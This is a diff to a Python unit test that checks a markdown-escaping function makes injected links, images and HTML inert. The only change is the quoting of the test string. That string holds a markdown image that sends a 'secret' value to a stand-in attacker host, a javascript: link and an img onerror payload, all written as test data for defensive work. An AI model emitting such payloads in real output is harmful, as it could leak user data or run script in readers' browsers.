@@ -10,7 +10,7 @@ def _unescaped(pattern: str, text: str) -> list[str]:
 
 
 def test_injected_links_images_and_html_are_inert() -> None:
-    hostile = 'See ![pixel](http://evil.example/p.png?d=secret) and [click](javascript:alert(1)) <img src=x onerror=1>'
+    hostile = "See ![pixel](http://evil.example/p.png?d=secret) and [click](javascript:alert(1)) <img src=x onerror=1>"
     escaped = escape_markdown(hostile)
     assert not _unescaped(r"\]\(", escaped) and not _unescaped(r"<", escaped) and not _unescaped(r"!\[", escaped)
     assert escaped.replace("\\", "") == hostile
